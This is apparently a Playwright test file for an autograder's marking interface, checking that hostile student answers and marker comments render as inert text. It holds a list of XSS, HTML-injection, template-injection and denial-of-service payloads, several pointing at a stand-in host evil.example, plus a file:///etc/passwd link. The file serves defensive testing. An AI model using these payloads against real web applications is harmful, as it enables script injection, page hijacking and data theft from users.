"""Whatever a student writes does nothing in the tutor's browser."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator

import pytest
from playwright.sync_api import Dialog, Page, expect

from autograder.course import Course
from autograder.marks.ledger import open_ledger
from tests.autograder.marking_course import SMALL, make_marking_course, mark
from tests.autograder.marks.test_safe import HOSTILE
from tests.browser.desk_hands import CELL, opened
from tests.desk_server import DeskServer, desk_server

MORE = (
    "<img src='http://evil.example/pixel.gif'>",
    "![pixel](https://evil.example/pixel.gif)",
    "![bomb](data:image/png;base64," + "A" * 200_000 + ")",
    "<svg width=100000 height=100000><rect width=100% height=100%/></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg onload=alert(1)>'/></svg>",
    '<div style="position:fixed;inset:0;z-index:99999;background:red">all of it</div>',
    "<style>@import url(http://evil.example/x.css); .bar{display:none}</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<base href='http://evil.example/'>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<button form=criteria formaction=http://evil.example>Next</button>",
    "<a id=next name=said href=#>clobbered</a><form id=criteria><input name=attributes></form>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= 7*7 %>",
    "[x](http://evil.example/ 'a\"onmouseover=alert(1)') <http://evil.example>",
    "[x](data:text/html,<script>alert(1)</script>) [y](vbscript:alert(1)) [z](file:///etc/passwd)",
    "\u202e\u202eThis is turned round \u2066\u2067\u2068 and never back. \u200f" * 50,
    "Z" + "\u0301\u0323\u0334" * 3000,
    "w" * 100_000,
    "A long answer, word after word. " * 40_000,
    "\n".join(">" * depth + " deep" for depth in range(1, 150)),
    "|" + "a|" * 2000 + "\n|" + "-|" * 2000 + "\n|" + "b|" * 2000,
    "*" * 5000 + "[" * 5000,
    "</div></section></main></body></html><script>alert(1)</script>",
    "\x00\x07\x1b[31m <scr\x00ipt>alert(1)</scr\x00ipt>",
)
WRITTEN = (*HOSTILE, *MORE)


@pytest.fixture(scope="module")
def course(tmp_path_factory: pytest.TempPathFactory) -> Course:
    course = make_marking_course(tmp_path_factory.mktemp("hostile") / "course", len(WRITTEN))
    for number, text in enumerate(WRITTEN):
        folder = course.place("autograded", f"s{number:05}", SMALL)
        path = folder / f"{SMALL}.ipynb"
        notebook = json.loads(path.read_text("utf-8"))
        cell = next(each for each in notebook["cells"] if each["id"] == CELL)
        cell["source"] = f"{text}\n\nThis is what I wrote, word for word, and it is not much."
        path.write_text(json.dumps(notebook), "utf-8")
    with open_ledger(course) as ledger:
        codes = {who.student: code for code, who in ledger.names("x").items()}
        comment = "<img src=x onerror=alert(1)><script>alert(1)</script>"
        given = {
            "depth": 6.0,
            "evidence": 3.0,
            "practice": 3.0,
            "perspectives": 3.0,
            "clarity": 3.0,
        }
        name = "<script>alert(1)</script>"
        code = codes["s00000"]
        ledger.add([mark(SMALL, CELL, code, given, who=name, comment=comment)])
    return course


@pytest.fixture(scope="module")
def desk(course: Course, tmp_path_factory: pytest.TempPathFactory) -> Iterator[DeskServer]:
    with desk_server(course.folder, tmp_path_factory.mktemp("home")) as server:
        yield server


def test_hostile_answers_do_nothing(
    new_page: Callable[..., Page], desk: DeskServer, course: Course
) -> None:
    page = new_page(viewport={"width": 1200, "height": 800})
    asked: list[Dialog] = []
    page.on("dialog", lambda dialog: (asked.append(dialog), dialog.dismiss()))
    opened(page, desk)
    with open_ledger(course) as ledger:
        codes = [
            code for code, who in sorted(ledger.names("x").items(), key=lambda x: x[1].student)
        ]
    colour = page.evaluate("getComputedStyle(document.body).backgroundColor")
    for number, script in enumerate(codes):
        page.keyboard.press("l")
        page.get_by_role("dialog").get_by_label("Code").fill(script)
        page.get_by_role("dialog").get_by_role("button", name=script).click()
        expect(page.locator("#answer-name")).to_have_text(f"Answer {script}")
        if len(WRITTEN[number]) < 250_000:  # the rest is cut, and says so
            expect(page.locator("#response-body")).to_contain_text("This is what I wrote")
        # The words and nothing else: all controls are on top, where they were.
        for button in ("next", "flag", "list", "help"):
            assert page.evaluate(
                """id => {
                  const box = document.getElementById(id).getBoundingClientRect();
                  const [x, y] = [box.x + box.width / 2, box.y + box.height / 2];
                  const top = document.elementFromPoint(x, y);
                  return top.closest("button")?.id === id;
                }""",
                button,
            ), (WRITTEN[number][:60], button)
        assert page.evaluate(
            """() => {
              const bad = "script, style, link, meta, base, img, svg, iframe, object, embed, form,"
                + " input, button, a, video, audio, math, template, [style], [id], [onerror]";
              return [...document.querySelectorAll("#response-body .student")].every(
                (text) => !text.querySelector(bad)
                  && text.getBoundingClientRect().right <= innerWidth / 2 + 1);
            }"""
        ), WRITTEN[number][:60]
        assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    assert page.evaluate("getComputedStyle(document.body).backgroundColor") == colour
    # Other people's words too: a marker's name and comment, in the history and beside.
    page.keyboard.press("l")
    page.get_by_role("dialog").get_by_label("Code").fill(codes[0])
    page.get_by_role("dialog").get_by_role("button", name=codes[0]).click()
    expect(page.locator(".given-marks")).to_contain_text("<script>alert(1)</script> (first marker)")
    page.keyboard.press("h")
    expect(page.get_by_role("dialog")).to_contain_text("<img src=x onerror=alert(1)>")
    page.keyboard.press("Escape")
    page.keyboard.press("a")
    expect(page.get_by_role("dialog")).to_contain_text("Answers that are alike")
    assert not asked
    assert page.url.startswith(desk.origin)
    assert len(page.context.pages) == 1
